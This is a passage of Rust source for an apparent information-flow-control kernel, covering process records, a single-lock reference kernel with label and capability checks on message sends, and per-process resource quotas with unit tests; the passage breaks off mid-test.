