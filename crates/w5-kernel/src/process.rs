//! Process objects: the unit of labeled execution.

use crate::ids::ProcessId;
use crate::message::Message;
use crate::resource::ResourceContainer;
use std::collections::VecDeque;
use w5_difc::{CapSet, LabelPair, PairId};

/// Lifecycle state of a process.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ProcessState {
    /// Eligible to run / perform syscalls.
    Runnable,
    /// Waiting on a mailbox receive.
    Blocked,
    /// Exited; the slot is retained for audit but refuses syscalls.
    Dead,
}

/// Kernel-internal per-process record.
#[derive(Debug)]
pub(crate) struct Process {
    pub id: ProcessId,
    /// Audit name, e.g. `"app:photo/crop@devA"`.
    pub name: String,
    /// Current secrecy/integrity labels.
    pub labels: LabelPair,
    /// Interned image of `labels`, kept in lockstep by
    /// [`Process::set_labels`]. Send-path flow checks compare these ids.
    pub pair: PairId,
    /// Private capability bag `D` (the global bag lives in the registry).
    pub caps: CapSet,
    pub state: ProcessState,
    pub mailbox: VecDeque<Message>,
    pub container: ResourceContainer,
    /// Parent process, if spawned rather than created by the platform.
    pub parent: Option<ProcessId>,
}

/// Public, copyable snapshot of process metadata, returned by
/// [`crate::Kernel::process_info`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ProcessInfo {
    /// The process id.
    pub id: ProcessId,
    /// Audit name.
    pub name: String,
    /// Current labels.
    pub labels: LabelPair,
    /// Lifecycle state.
    pub state: ProcessState,
    /// Queued messages.
    pub mailbox_len: usize,
    /// Parent, if any.
    pub parent: Option<ProcessId>,
}

impl Process {
    /// Replace the labels, keeping the interned pair in sync. All label
    /// mutations must go through here so `pair` never goes stale.
    pub(crate) fn set_labels(&mut self, labels: LabelPair) {
        self.pair = labels.interned();
        self.labels = labels;
    }

    pub(crate) fn info(&self) -> ProcessInfo {
        ProcessInfo {
            id: self.id,
            name: self.name.clone(),
            labels: self.labels.clone(),
            state: self.state,
            mailbox_len: self.mailbox.len(),
            parent: self.parent,
        }
    }
}
