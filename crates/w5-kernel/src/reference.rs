//! The single-lock reference kernel — the pre-sharding implementation,
//! kept verbatim as the baseline arm of the differential concurrency
//! oracle (`w5_sim::concurrency`).
//!
//! [`ReferenceKernel`] serializes every syscall behind one global
//! `Mutex<Inner>`. That makes it trivially linearizable: any schedule of
//! syscalls, from any number of threads, executes as if in some total
//! order. The sharded [`crate::Kernel`] claims to preserve exactly the
//! observable behavior of this kernel while striping its state across
//! shards; the differential harness replays identical seeded schedules
//! against both and compares final label state, capability bags, mailbox
//! depths, flow-decision counters and obs-ledger counts.
//!
//! Do not "improve" this module. Its value is that it is the old code:
//! an independent implementation that the sharded kernel is checked
//! against. Behavioral fixes belong in `kernel.rs`, and only ever in
//! this file afterwards, deliberately, when the contract itself changes.

use crate::api::Syscalls;
use crate::ids::ProcessId;
use crate::kernel::{Delivery, KernelError, KernelResult, KernelStats, SpawnSpec};
use crate::message::Message;
use crate::process::{Process, ProcessInfo, ProcessState};
use crate::resource::{ResourceContainer, ResourceKind, ResourceLimits, ResourceUsage};
use bytes::Bytes;
use w5_sync::{lockdep, Mutex};
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use w5_difc::{rules, CapSet, Capability, LabelPair, Tag, TagKind, TagRegistry};

struct Inner {
    procs: HashMap<ProcessId, Process>,
    stats: KernelStats,
}

/// The pre-sharding DIFC kernel: one process table, one global lock.
/// Cheap to share: `ReferenceKernel` is `Clone` and all clones view the
/// same machine.
#[derive(Clone)]
pub struct ReferenceKernel {
    registry: Arc<TagRegistry>,
    inner: Arc<Mutex<Inner>>,
    next_pid: Arc<AtomicU64>,
}

impl ReferenceKernel {
    /// A fresh machine sharing the given tag registry.
    pub fn new(registry: Arc<TagRegistry>) -> ReferenceKernel {
        ReferenceKernel {
            registry,
            inner: Arc::new(Mutex::new("kernel.reference", Inner {
                procs: HashMap::new(),
                stats: KernelStats::default(),
            })),
            next_pid: Arc::new(AtomicU64::new(1)),
        }
    }

    /// The shared tag registry.
    pub fn registry(&self) -> &Arc<TagRegistry> {
        &self.registry
    }

    /// Trusted process creation (see [`crate::Kernel::create_process`]).
    pub fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId {
        let id = ProcessId(self.next_pid.fetch_add(1, Ordering::Relaxed));
        let pair = labels.interned();
        let obs_secrecy = pair.secrecy.to_obs();
        let mut trace_span = w5_obs::span_if_active(
            "kernel.create_process",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        let proc = Process {
            id,
            name: name.to_string(),
            labels,
            pair,
            caps,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(limits),
            parent: None,
        };
        self.inner.lock().procs.insert(id, proc);
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: 0, name: name.to_string() },
        );
        id
    }

    /// Spawn a child (see [`crate::Kernel::spawn`]).
    pub fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId> {
        if w5_chaos::inject(w5_chaos::Site::KernelSpawn).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSpawn.as_str()));
        }
        let mut trace_span = w5_obs::span_if_active(
            "kernel.spawn",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get(&parent)
            .ok_or(KernelError::NoSuchProcess(parent))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(parent));
        }
        let spec_pair = spec.labels.interned();
        if spec_pair != p.pair || !spec.grant.is_empty() {
            let eff = self.registry.effective(&p.caps);
            let _obs_permit = lockdep::allow_held("obs.ledger");
            rules::safe_change(&p.labels.secrecy, &spec.labels.secrecy, &eff)?;
            rules::safe_change(&p.labels.integrity, &spec.labels.integrity, &eff)?;
            if !spec.grant.is_subset(&eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }
        let id = ProcessId(self.next_pid.fetch_add(1, Ordering::Relaxed));
        let obs_secrecy = spec_pair.secrecy.to_obs();
        let child_name = spec.name.clone();
        let child = Process {
            id,
            name: spec.name,
            labels: spec.labels,
            pair: spec_pair,
            caps: spec.grant,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(spec.limits),
            parent: Some(parent),
        };
        inner.procs.insert(id, child);
        drop(inner);
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: parent.0, name: child_name },
        );
        Ok(id)
    }

    /// Snapshot of a process's public metadata.
    pub fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(Process::info)
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Current labels of a process.
    pub fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.labels.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's *private* capability bag.
    pub fn caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.caps.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's effective capability set (private ∪ global bag).
    pub fn effective_caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        let caps = self.caps(pid)?;
        Ok(self.registry.effective(&caps))
    }

    /// Create a tag on behalf of a process (see [`crate::Kernel::create_tag`]).
    pub fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag> {
        let (tag, creator_caps) = self.registry.create_tag(kind, name);
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        p.caps.extend(&creator_caps);
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::TagGrant { pid: pid.0, tag: tag.raw() },
        );
        Ok(tag)
    }

    /// Change a process's own labels, subject to the safe-change rule.
    pub fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        inner.stats.label_changes += 1;
        let registry = Arc::clone(&self.registry);
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        let eff = registry.effective(&p.caps);
        let _obs_permit = lockdep::allow_held("obs.ledger");
        let check = rules::safe_change(&p.labels.secrecy, &new.secrecy, &eff)
            .and_then(|()| rules::safe_change(&p.labels.integrity, &new.integrity, &eff));
        match check {
            Ok(()) => {
                p.set_labels(new);
                Ok(())
            }
            Err(e) => {
                inner.stats.label_changes_denied += 1;
                Err(e.into())
            }
        }
    }

    /// Permanently drop capabilities from a process's private bag.
    pub fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        for c in caps.iter() {
            p.caps.remove(c);
        }
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "drop".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Add capabilities to a process's private bag (trusted entry point).
    pub fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.caps.extend(caps);
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "grant".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Send with silent-drop semantics (see [`crate::Kernel::send`]).
    pub fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery> {
        match self.send_strict(from, to, payload, grant) {
            Ok(()) => Ok(Delivery::Delivered),
            Err(KernelError::Difc(_)) => Ok(Delivery::Dropped),
            Err(e) => Err(e),
        }
    }

    /// Send with the flow decision surfaced (trusted callers only).
    pub fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()> {
        if w5_chaos::inject(w5_chaos::Site::KernelSend).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSend.as_str()));
        }
        let mut trace_span = w5_obs::span_if_active(
            "kernel.send",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        let mut inner = self.inner.lock();
        inner.stats.sends_checked += 1;
        let registry = Arc::clone(&self.registry);

        let (s_labels, s_pair, s_caps) = {
            let p = inner
                .procs
                .get(&from)
                .ok_or(KernelError::NoSuchProcess(from))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(from));
            }
            (p.labels.clone(), p.pair, p.caps.clone())
        };
        let mut s_eff = None;
        if !grant.is_empty() {
            let eff = s_eff.insert(registry.effective(&s_caps));
            if !grant.is_subset(eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }

        let r_pair = {
            let p = inner.procs.get(&to).ok_or(KernelError::NoSuchProcess(to))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(to));
            }
            p.pair
        };

        // Delivery is checked against the receiver's labels *as they
        // stand* (Flume's endpoint discipline); see `kernel.rs` for the
        // full rationale. Fast path: memoized id-level subset probes.
        let fast_ok = w5_difc::intern::subset(s_pair.secrecy, r_pair.secrecy)
            && w5_difc::intern::subset(r_pair.integrity, s_pair.integrity);
        let _obs_permit = lockdep::allow_held("obs.ledger");
        let flow = if fast_ok {
            w5_obs::count_check("flow", true, &s_pair.secrecy.to_obs());
            Ok(())
        } else {
            let eff = match &s_eff {
                Some(eff) => eff,
                None => s_eff.insert(registry.effective(&s_caps)),
            };
            let r_labels = r_pair.resolve();
            rules::can_flow_with(&s_labels.secrecy, eff, &r_labels.secrecy, &CapSet::empty())
                .and(rules::integrity_flow_with(
                    &s_labels.integrity,
                    eff,
                    &r_labels.integrity,
                    &CapSet::empty(),
                ))
        };
        if let Err(e) = flow {
            inner.stats.sends_dropped += 1;
            drop(inner);
            if let Some(s) = trace_span.as_mut() {
                s.add_secrecy(&s_pair.secrecy.to_obs());
            }
            w5_obs::record(
                &s_pair.secrecy.to_obs(),
                w5_obs::EventKind::IpcSend {
                    from: from.0,
                    to: to.0,
                    bytes: payload.len() as u64,
                    delivered: false,
                },
            );
            return Err(e.into());
        }

        let size = payload.len() as u64;
        {
            let p = inner.procs.get_mut(&from).expect("sender checked above");
            p.container.charge_network(size)?;
        }
        let obs_secrecy = s_pair.secrecy.to_obs();
        let msg = Message { from, payload, labels: s_labels, grant };
        let q = inner.procs.get_mut(&to).expect("receiver checked above");
        q.mailbox.push_back(msg);
        if q.state == ProcessState::Blocked {
            q.state = ProcessState::Runnable;
        }
        drop(inner);
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::IpcSend { from: from.0, to: to.0, bytes: size, delivered: true },
        );
        Ok(())
    }

    /// Dequeue the next message for `pid` (see [`crate::Kernel::recv`]).
    pub fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        match p.mailbox.pop_front() {
            Some(msg) => {
                p.caps.extend(&msg.grant);
                drop(inner);
                w5_obs::record(
                    &msg.labels.secrecy.to_obs(),
                    w5_obs::EventKind::IpcRecv { pid: pid.0, bytes: msg.payload.len() as u64 },
                );
                Ok(Some(msg))
            }
            None => {
                p.state = ProcessState::Blocked;
                Ok(None)
            }
        }
    }

    /// Charge a resource against a process's container.
    pub fn charge(&self, pid: ProcessId, kind: ResourceKind, amount: u64) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let res = match kind {
            ResourceKind::Cpu => p.container.charge_cpu(amount),
            ResourceKind::Memory => p.container.charge_memory(amount),
            ResourceKind::Disk => p.container.charge_disk(amount),
            ResourceKind::Network => p.container.charge_network(amount),
        };
        res.map_err(Into::into)
    }

    /// Release previously charged memory.
    pub fn release_memory(&self, pid: ProcessId, amount: u64) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.container.release_memory(amount);
        Ok(())
    }

    /// Resource usage snapshot for a process.
    pub fn usage(&self, pid: ProcessId) -> KernelResult<ResourceUsage> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.container.usage())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// CPU tokens remaining this epoch for a process.
    pub fn cpu_tokens(&self, pid: ProcessId) -> KernelResult<u64> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.container.cpu_tokens())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Refill every live process's CPU bucket.
    pub fn refill_epoch(&self) {
        let mut inner = self.inner.lock();
        for p in inner.procs.values_mut() {
            if p.state != ProcessState::Dead {
                p.container.refill_epoch();
            }
        }
    }

    /// Terminate a process.
    pub fn exit(&self, pid: ProcessId) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.state = ProcessState::Dead;
        p.mailbox.clear();
        Ok(())
    }

    /// Remove a dead process from the table entirely.
    pub fn reap(&self, pid: ProcessId) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        match inner.procs.get(&pid) {
            Some(p) if p.state == ProcessState::Dead => {
                inner.procs.remove(&pid);
                Ok(())
            }
            Some(_) => Err(KernelError::ProcessDead(pid)),
            None => Err(KernelError::NoSuchProcess(pid)),
        }
    }

    /// Number of live (non-dead) processes.
    pub fn live_processes(&self) -> usize {
        self.inner
            .lock()
            .procs
            .values()
            .filter(|p| p.state != ProcessState::Dead)
            .count()
    }

    /// Flow-decision counters.
    pub fn stats(&self) -> KernelStats {
        self.inner.lock().stats
    }

    /// Taint-on-read (see [`crate::Kernel::taint_for_read`]).
    pub fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()> {
        let data_pair = data.interned();
        let mut inner = self.inner.lock();
        let registry = Arc::clone(&self.registry);
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        if w5_difc::intern::subset(data_pair.secrecy, p.pair.secrecy)
            && w5_difc::intern::subset(p.pair.integrity, data_pair.integrity)
        {
            drop(inner);
            w5_obs::count_check("read", true, &data_pair.secrecy.to_obs());
            return Ok(());
        }
        let eff = registry.effective(&p.caps);
        let _obs_permit = lockdep::allow_held("obs.ledger");
        match rules::labels_for_read(&p.labels, &eff, data) {
            rules::FlowCheck::Allowed => Ok(()),
            rules::FlowCheck::AllowedWithChange { new_secrecy, new_integrity } => {
                p.set_labels(LabelPair::new(new_secrecy, new_integrity));
                Ok(())
            }
            rules::FlowCheck::Denied(e) => Err(e.into()),
        }
    }

    /// Would a write by `pid` to an object labeled `obj` be admissible?
    pub fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()> {
        let inner = self.inner.lock();
        let p = inner
            .procs
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let eff = self.registry.effective(&p.caps);
        let _obs_permit = lockdep::allow_held("obs.ledger");
        match rules::labels_for_write(&p.labels, &eff, obj) {
            rules::FlowCheck::Denied(e) => Err(e.into()),
            _ => Ok(()),
        }
    }

    /// Does `pid` effectively hold the capability?
    pub fn holds(&self, pid: ProcessId, cap: Capability) -> KernelResult<bool> {
        let inner = self.inner.lock();
        let p = inner
            .procs
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        Ok(self.registry.effectively_holds(&p.caps, cap))
    }
}

impl Syscalls for ReferenceKernel {
    fn registry(&self) -> &Arc<TagRegistry> {
        self.registry()
    }
    fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId {
        self.create_process(name, labels, caps, limits)
    }
    fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId> {
        self.spawn(parent, spec)
    }
    fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo> {
        self.process_info(pid)
    }
    fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair> {
        self.labels(pid)
    }
    fn caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        self.caps(pid)
    }
    fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag> {
        self.create_tag(pid, kind, name)
    }
    fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()> {
        self.change_labels(pid, new)
    }
    fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        self.drop_caps(pid, caps)
    }
    fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        self.grant_caps(pid, caps)
    }
    fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery> {
        self.send(from, to, payload, grant)
    }
    fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()> {
        self.send_strict(from, to, payload, grant)
    }
    fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>> {
        self.recv(pid)
    }
    fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()> {
        self.taint_for_read(pid, data)
    }
    fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()> {
        self.check_write(pid, obj)
    }
    fn exit(&self, pid: ProcessId) -> KernelResult<()> {
        self.exit(pid)
    }
    fn reap(&self, pid: ProcessId) -> KernelResult<()> {
        self.reap(pid)
    }
    fn live_processes(&self) -> usize {
        self.live_processes()
    }
    fn stats(&self) -> KernelStats {
        self.stats()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_difc::Label;

    #[test]
    fn reference_send_recv_roundtrip() {
        let k = ReferenceKernel::new(Arc::new(TagRegistry::new()));
        let a = k.create_process("a", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let b = k.create_process("b", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let d = k.send(a, b, Bytes::from_static(b"hi"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Delivered);
        let msg = k.recv(b).unwrap().unwrap();
        assert_eq!(&msg.payload[..], b"hi");
        assert_eq!(k.stats().sends_checked, 1);
    }

    #[test]
    fn reference_drops_tainted_flow() {
        let k = ReferenceKernel::new(Arc::new(TagRegistry::new()));
        let a = k.create_process("a", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let b = k.create_process("b", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let e = k.create_tag(a, TagKind::ExportProtect, "export:ref").unwrap();
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty())).unwrap();
        let mut minus = CapSet::empty();
        minus.insert(Capability::minus(e));
        k.drop_caps(a, &minus).unwrap();
        let d = k.send(a, b, Bytes::from_static(b"s"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Dropped);
        assert_eq!(k.stats().sends_dropped, 1);
    }
}
