//! Resource containers (paper §3.5).
//!
//! "Processes must be limited to reasonable amounts of disk, network,
//! memory and CPU usage, lest rogue applications degrade the performance of
//! the W5 cluster." Each process is attached to a [`ResourceContainer`]
//! holding [`ResourceLimits`]; every syscall that consumes a resource
//! charges the container and fails with [`QuotaExceeded`] once the budget
//! is gone.
//!
//! CPU is a *rate*: a token bucket refilled each scheduler epoch, so a
//! spinning process is throttled rather than killed. Memory is a *level*:
//! charges and releases move a gauge. Disk and network are *cumulative*
//! within an accounting period.

use std::fmt;

/// The four resource axes of §3.5.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ResourceKind {
    /// CPU ticks per scheduler epoch (token bucket).
    Cpu,
    /// Resident bytes (gauge).
    Memory,
    /// Bytes written to storage (cumulative).
    Disk,
    /// Bytes sent to the network layer (cumulative).
    Network,
}

impl fmt::Display for ResourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ResourceKind::Cpu => "cpu",
            ResourceKind::Memory => "memory",
            ResourceKind::Disk => "disk",
            ResourceKind::Network => "network",
        };
        f.write_str(s)
    }
}

/// A quota violation: which axis, how much was requested, how much remained.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct QuotaExceeded {
    /// The exhausted resource.
    pub kind: ResourceKind,
    /// Units requested by the failing charge.
    pub requested: u64,
    /// Units that were still available.
    pub available: u64,
}

impl fmt::Display for QuotaExceeded {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} quota exceeded: requested {}, {} available",
            self.kind, self.requested, self.available
        )
    }
}

impl std::error::Error for QuotaExceeded {}

/// Per-container budgets. `u64::MAX` means unlimited.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ResourceLimits {
    /// CPU ticks allowed per epoch.
    pub cpu_per_epoch: u64,
    /// Maximum resident bytes.
    pub memory_bytes: u64,
    /// Maximum bytes written to disk per accounting period.
    pub disk_bytes: u64,
    /// Maximum bytes sent per accounting period.
    pub network_bytes: u64,
}

impl ResourceLimits {
    /// No limits — used for trusted platform components and for the
    /// "containers disabled" arm of experiment E8.
    pub fn unlimited() -> ResourceLimits {
        ResourceLimits {
            cpu_per_epoch: u64::MAX,
            memory_bytes: u64::MAX,
            disk_bytes: u64::MAX,
            network_bytes: u64::MAX,
        }
    }

    /// The platform's default sandbox for untrusted applications. One
    /// "epoch" is one request for launcher-created instances, so the CPU
    /// budget is a per-request work bound; it is sized to admit a full
    /// maximum-budget database scan (`QueryCost::sandbox_default`, 100k
    /// rows) with room for the app's own logic.
    pub fn sandbox_default() -> ResourceLimits {
        ResourceLimits {
            cpu_per_epoch: 500_000,
            memory_bytes: 64 << 20,
            disk_bytes: 256 << 20,
            network_bytes: 64 << 20,
        }
    }
}

impl Default for ResourceLimits {
    fn default() -> Self {
        ResourceLimits::unlimited()
    }
}

/// A snapshot of cumulative consumption.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ResourceUsage {
    /// Total CPU ticks charged over the container's lifetime.
    pub cpu_ticks: u64,
    /// Current resident bytes.
    pub memory_bytes: u64,
    /// Total disk bytes written.
    pub disk_bytes: u64,
    /// Total network bytes sent.
    pub network_bytes: u64,
    /// Number of charges refused.
    pub denials: u64,
}

/// A resource container: limits plus live accounting.
///
/// Containers are owned by the kernel's process table and accessed under
/// its lock, so the fields here are plain integers.
#[derive(Clone, Debug)]
pub struct ResourceContainer {
    limits: ResourceLimits,
    /// CPU tokens remaining in the current epoch.
    cpu_tokens: u64,
    usage: ResourceUsage,
}

impl ResourceContainer {
    /// A container with the given limits, starting with a full CPU bucket.
    pub fn new(limits: ResourceLimits) -> ResourceContainer {
        ResourceContainer {
            limits,
            cpu_tokens: limits.cpu_per_epoch,
            usage: ResourceUsage::default(),
        }
    }

    /// The configured limits.
    pub fn limits(&self) -> ResourceLimits {
        self.limits
    }

    /// Consumption so far.
    pub fn usage(&self) -> ResourceUsage {
        self.usage
    }

    /// CPU tokens left this epoch.
    pub fn cpu_tokens(&self) -> u64 {
        self.cpu_tokens
    }

    /// Refill the CPU bucket; called by the scheduler at each epoch start.
    pub fn refill_epoch(&mut self) {
        self.cpu_tokens = self.limits.cpu_per_epoch;
    }

    /// Charge `ticks` of CPU. On success the tokens are consumed.
    pub fn charge_cpu(&mut self, ticks: u64) -> Result<(), QuotaExceeded> {
        if ticks > self.cpu_tokens {
            self.usage.denials += 1;
            return Err(QuotaExceeded {
                kind: ResourceKind::Cpu,
                requested: ticks,
                available: self.cpu_tokens,
            });
        }
        self.cpu_tokens -= ticks;
        self.usage.cpu_ticks += ticks;
        Ok(())
    }

    /// Charge resident memory (a gauge: pair with [`release_memory`]).
    ///
    /// [`release_memory`]: ResourceContainer::release_memory
    pub fn charge_memory(&mut self, bytes: u64) -> Result<(), QuotaExceeded> {
        let new = self.usage.memory_bytes.saturating_add(bytes);
        if new > self.limits.memory_bytes {
            self.usage.denials += 1;
            return Err(QuotaExceeded {
                kind: ResourceKind::Memory,
                requested: bytes,
                available: self.limits.memory_bytes - self.usage.memory_bytes,
            });
        }
        self.usage.memory_bytes = new;
        Ok(())
    }

    /// Release previously charged memory.
    pub fn release_memory(&mut self, bytes: u64) {
        self.usage.memory_bytes = self.usage.memory_bytes.saturating_sub(bytes);
    }

    /// Charge bytes written to disk.
    pub fn charge_disk(&mut self, bytes: u64) -> Result<(), QuotaExceeded> {
        let new = self.usage.disk_bytes.saturating_add(bytes);
        if new > self.limits.disk_bytes {
            self.usage.denials += 1;
            return Err(QuotaExceeded {
                kind: ResourceKind::Disk,
                requested: bytes,
                available: self.limits.disk_bytes - self.usage.disk_bytes,
            });
        }
        self.usage.disk_bytes = new;
        Ok(())
    }

    /// Charge bytes handed to the network layer.
    pub fn charge_network(&mut self, bytes: u64) -> Result<(), QuotaExceeded> {
        let new = self.usage.network_bytes.saturating_add(bytes);
        if new > self.limits.network_bytes {
            self.usage.denials += 1;
            return Err(QuotaExceeded {
                kind: ResourceKind::Network,
                requested: bytes,
                available: self.limits.network_bytes - self.usage.network_bytes,
            });
        }
        self.usage.network_bytes = new;
        Ok(())
    }
}

impl Default for ResourceContainer {
    fn default() -> Self {
        ResourceContainer::new(ResourceLimits::unlimited())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cpu_bucket_throttles_and_refills() {
        let mut rc = ResourceContainer::new(ResourceLimits {
            cpu_per_epoch: 10,
            ..ResourceLimits::unlimited()
        });
        assert!(rc.charge_cpu(7).is_ok());
        assert!(rc.charge_cpu(3).is_ok());
        let err = rc.charge_cpu(1).unwrap_err();
        assert_eq!(err.kind, ResourceKind::Cpu);
        assert_eq!(err.available, 0);
        rc.refill_epoch();
        assert!(rc.charge_cpu(10).is_ok());
        assert_eq!(rc.usage().cpu_ticks, 20);
        assert_eq!(rc.usage().denials, 1);
    }

    #[test]
    fn memory_is_a_gauge() {
        let mut rc = ResourceContainer::new(ResourceLimits {
            memory_bytes: 100,
            ..ResourceLimits::unlimited()
        });
        assert!(rc.charge_memory(60).is_ok());
        assert!(rc.charge_memory(50).is_err());
        rc.release_memory(30);
        assert!(rc.charge_memory(50).is_ok());
        assert_eq!(rc.usage().memory_bytes, 80);
    }

    #[test]
    fn disk_and_network_are_cumulative() {
        let mut rc = ResourceContainer::new(ResourceLimits {
            disk_bytes: 10,
            network_bytes: 5,
